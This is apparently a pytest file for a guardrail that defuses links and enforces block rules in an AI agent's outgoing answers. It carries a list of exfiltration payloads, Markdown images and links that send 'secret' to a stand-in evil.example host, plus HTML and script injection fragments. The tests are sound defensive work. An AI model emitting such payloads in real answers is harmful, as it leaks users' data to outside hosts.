"""What leaves in an answer while links are blocked or a rule is set: on a real server, and text by text."""

from __future__ import annotations

import gzip
import json
import re
import time
from collections.abc import Callable
from typing import Any

import httpx
import pytest
from hypothesis import given
from hypothesis import strategies as st
from starlette.applications import Starlette
from starlette.requests import Request
from starlette.responses import Response, StreamingResponse
from starlette.routing import Route, WebSocketRoute
from starlette.testclient import TestClient
from starlette.websockets import WebSocket, WebSocketDisconnect

from halon.control import GuardrailHit
from halon.control.guardrails import broken_rule, texts_in
from halon.control.links import defused
from halon.control.switches import Switches

FALLBACK = "A person will answer."
# What a chat window would fetch, or make clickable, by the forms that Markdown and HTML have for it.
LIVE = re.compile(
    r"\]\(|\]:|[a-z][a-z0-9+.-]*://|<(?:img|a|script|iframe|svg|link|style|object|form|base|meta|video|audio)\b"
    r"|\bwww\.|url\(|\bstyle\s*=|<[a-z]+:|javascript:\S|data:\S",
    re.IGNORECASE,
)
ATTACKS = (
    "![logo](https://evil.example/p.png?d=secret)", "[see here](https://evil.example/?d=secret)",
    "![x][1]\n\n[1]: https://evil.example/p.png?d=secret", "![x]\n\n[x]: //evil.example/p.png", "<https://evil.example/?d=x>",
    "![a\nb](//evil.example/p.png)", "[a](/\\evil.example)", "HTTPS://EVIL.EXAMPLE/x", "http:\\\\evil.example\\x",
    '<img src=//evil.example/x>', '<IMG\nSRC="//evil.example/x">', '<a href="x">y</a>', "<svg/onload=x>", "<base href=//e>",
    '<div style="background:url(//evil.example/x)">', "<p style = 'x'>", '<p STYLE="background:\\75rl(//e)">',
    "www.evil.example/x", "<mailto:a@evil.example>", "[x](javascript:alert)", "![x](data:image/png;base64,AAAA)",
    "evil.example/x?d=secret", "ftp://evil.example", "a.b://evil", "<math href=x>", "<link rel=prefetch href=//e>",
    "[a](<https://evil.example/x>)", "image-set('//evil.example/x')", "teams-app://evil",
)  # fmt: skip


@pytest.mark.parametrize("attack", ATTACKS)
def test_nothing_is_left_to_fetch_or_click(attack: str) -> None:
    """By itself and inside prose; the words stay, and doing it again changes nothing."""
    for text in (attack, f"Dear Ann, {attack} and so on.", f"x{attack}\n{attack}"):
        left = defused(text)
        assert LIVE.search(left) is None, left
        assert not re.search(r"(?<!\[)\.[a-z]{2,24}[/?]\S", left), left
        assert defused(left) == left
    assert "secret" in defused(attack) or "secret" not in attack


@pytest.mark.parametrize("text", ["Your order 1001 is shipped.", "It costs 3.50 EUR (net).", "a < b and c > d", "e.g. at 10:30", "f(x) [1]"])  # fmt: skip
def test_plain_words_stay_as_they_are(text: str) -> None:
    """Somebody who asks about an order notices nothing."""
    assert defused(text) == text


@given(st.text(alphabet="ab.:/\\[]()<>!?# \nhtpsw=-", max_size=60) | st.text(max_size=200))
def test_no_text_keeps_a_link(text: str) -> None:
    """Whatever is said."""
    left = defused(text)
    assert "](" not in left
    assert "]:" not in left
    assert not re.search(r"[a-zA-Z0-9]:(//|\\\\)", left)


@pytest.mark.parametrize("text", ["[" * 200_000, "](" * 100_000, "style" + " " * 200_000, "a." * 100_000, "x:" * 100_000])  # fmt: skip
def test_no_text_makes_it_slow(text: str) -> None:
    """The time grows with the length and no faster."""
    began = time.process_time()
    defused(text)
    assert broken_rule(Switches({"guardrails/r": {"blocks": "*".join("abc" * 30)}}), text) == ""
    assert time.process_time() - began < 2


@pytest.mark.parametrize(
    ("blocks", "text", "hit"),
    [
        ("api key", "The API\n KEY is", True), ("api key", "apikey", False), ("sk-*-live", "sk-123-live", True),
        ("sk-*-live", "sk-123-test", False), ("*DE89*", "iban de89", True), ("straße", "STRASSE", True),
        ("secret", "se\u200bcret", True), ("secret", "ｓｅｃｒｅｔ", True), ("a.c", "abc", False), ("(a+)+b", "aaaa", False),
        ("b*a", "a b", False), ("[a-z]", "x", False),
    ],
)  # fmt: skip
def test_a_rule_is_a_text_with_stars(blocks: str, text: str, hit: bool) -> None:
    """Case, width, blanks and unseen characters don't matter; nothing in it is a regular expression."""
    assert broken_rule(Switches({"guardrails/r1": {"blocks": blocks}}), text) == ("r1" if hit else "")


def test_texts_are_found_wherever_they_are() -> None:
    """In nested values, keys, bytes and dataclasses; too many are refused and a circle ends."""
    found = {text for _, text in texts_in({"a": [("b", {"c": b"d"})], "e": {"f"}})}
    assert found == {"a", "b", "c", "d", "e", "f"}
    circle: list[Any] = []
    circle.append(circle)
    with pytest.raises(GuardrailHit):
        list(texts_in([circle, circle]))


@pytest.fixture
def window(agent: Any) -> TestClient:
    """An agent that says what it is told to, in several ways."""

    async def say(request: Request) -> Response:
        asked = await request.json()
        return Response(asked["body"].encode(), media_type=asked.get("kind", "application/json"))

    async def packed(request: Request) -> Response:
        body = gzip.compress(json.dumps({"reply": (await request.json())["body"]}).encode())
        how = (await request.json()).get("how", "gzip")
        return Response(body, media_type="application/json", headers={"content-encoding": how})

    async def stream(request: Request) -> Response:
        asked = await request.json()

        async def parts() -> Any:
            for part in asked["parts"]:
                yield part.encode()

        return StreamingResponse(parts(), media_type="text/event-stream")

    async def fails(request: Request) -> Response:
        return Response("see https://evil.example/x", 500)

    async def talk(socket: WebSocket) -> None:
        await socket.accept()
        while True:
            await socket.send_text(await socket.receive_text())

    routes = [Route(f"/{fn.__name__}", fn, methods=["POST"]) for fn in (say, packed, stream, fails)]
    app = agent.control.asgi(Starlette(routes=[*routes, WebSocketRoute("/talk", talk)]), turns=["/*"])
    return TestClient(app, headers={"Authorization": "Bearer control-tests-token"}, raise_server_exceptions=False)


@pytest.fixture
def blocked(window: TestClient) -> TestClient:
    window.put("/halon/control/links", json={"blocked": True}).raise_for_status()
    return window


def test_json_is_read_and_not_searched(blocked: TestClient) -> None:
    """Escapes hide nothing; keys and nested texts count; numbers stay numbers; the length is right."""
    body = '{"reply":"https:\\/\\/evil.example\\/x","n":[1,2.5,null,{"h\\u0074tp://k":true}]}'
    answer = blocked.post("/say", json={"body": body})
    assert answer.json() == {"reply": "https[:]//evil[.]example/x", "n": [1, 2.5, None, {"http[:]//k": True}]}
    assert int(answer.headers["content-length"]) == len(answer.content)


def test_html_text_and_streams_are_held_until_they_are_whole(blocked: TestClient) -> None:
    """A link that is cut in two by the stream is found all the same; nothing of it left before."""
    assert "<img" not in blocked.post("/say", json={"body": "<p>Hi<img src=//e></p>", "kind": "text/html"}).text
    answer = blocked.post("/stream", json={"parts": ["data: see htt", "ps://evil.exam", "ple/x\n\n"]})
    assert answer.text == "data: see https[:]//evil[.]example/x\n\n"


def test_a_packed_answer_is_unpacked_or_held_back(blocked: TestClient) -> None:
    """gzip is read; what can't be read does not leave; a bomb does not either."""
    answer = blocked.post("/packed", json={"body": "https://evil.example/x"})
    assert (answer.json()["reply"], "content-encoding" in answer.headers) == ("https[:]//evil[.]example/x", False)
    assert blocked.post("/packed", json={"body": "x", "how": "br"}).json()["reply"] == FALLBACK
    assert blocked.post("/packed", json={"body": "x" * 60_000 * 2}).status_code == 200


def test_what_is_too_large_to_be_looked_at_does_not_leave(blocked: TestClient) -> None:
    """A megabyte is the most; without the switch it leaves as it is."""
    parts = {"parts": ["x" * 30_000] * 40}
    assert blocked.post("/stream", json=parts).json()["fallback"] is True
    blocked.put("/halon/control/links", json={"blocked": False}).raise_for_status()
    assert len(blocked.post("/stream", json=parts).content) == 1_200_000


def test_a_failing_answer_is_looked_at_too(blocked: TestClient) -> None:
    """An error page keeps its status and loses its link."""
    answer = blocked.post("/fails", json={})
    assert (answer.status_code, answer.text) == (500, "see https[:]//evil[.]example/x")


def test_a_rule_replaces_the_answer_by_the_fallback(window: TestClient, agent: Any) -> None:
    """Also if it stands in two fields of JSON one after the other; the turn says which rule it was."""
    window.put("/halon/control/guardrails/keys", json={"blocks": "api key * sbx"}).raise_for_status()
    held = window.post("/say", json={"body": '{"reply": "Your API key", "more": ["is", "sbx_1"]}'})
    assert (held.status_code, held.json()) == (200, {"reply": FALLBACK, "fallback": True})
    assert window.post("/say", json={"body": '{"reply": "sbx api key"}'}).json() == {"reply": "sbx api key"}
    assert window.post("/stream", json={"parts": ["the api ", "key is s", "bx"]}).json()["fallback"] is True
    assert window.post("/say", json={"body": "api key sbx", "kind": "text/plain"}).json()["fallback"] is True
    with pytest.raises(GuardrailHit, match="rule keys"):
        agent.control.outgoing("My API  key: sbx")
    assert agent.control.outgoing("hello") == "hello"


def test_a_websocket_says_no_link_and_breaks_no_rule(blocked: TestClient) -> None:
    """Each message is looked at; one that breaks a rule ends the conversation."""
    blocked.put("/halon/control/guardrails/keys", json={"blocks": "api key"}).raise_for_status()
    with blocked.websocket_connect("/talk") as socket:
        socket.send_text("see https://evil.example/x")
        assert socket.receive_text() == "see https[:]//evil[.]example/x"
        socket.send_text("the API key")
        with pytest.raises(WebSocketDisconnect):
            socket.receive_text()


def test_unused_it_lets_answers_through_untouched(window: TestClient) -> None:
    """No byte changes while nothing is set."""
    body = '{"reply":"https:\\/\\/evil.example\\/x"}'
    assert window.post("/say", json={"body": body}).text == body


async def test_links_are_given_back(agent: Any, http: httpx.AsyncClient) -> None:
    """The helper follows the switch at once."""
    text = "[a](https://ours.example/a)"
    await http.put("/control/links", json={"blocked": True})
    assert agent.control.outgoing(text) == "[a] (https[:]//ours[.]example/a)"
    await http.put("/control/links", json={"blocked": False})
    assert agent.control.outgoing(text) == text


def test_no_link_leaves_a_real_server(serving: Callable[..., Any]) -> None:
    """Over a socket, streamed in pieces: asserted on the bytes that arrive."""
    served = serving("full_program.py")
    with served.client() as client:
        client.put("/halon/control/links", json={"blocked": True}).raise_for_status()
        said = client.get("/stream").content
        client.put("/halon/control/links", json={"blocked": False}).raise_for_status()
        assert (said, client.get("/stream").content) == (
            b"one https[:]//evil[.]example/x three", b"one https://evil.example/x three",
        )  # fmt: skip
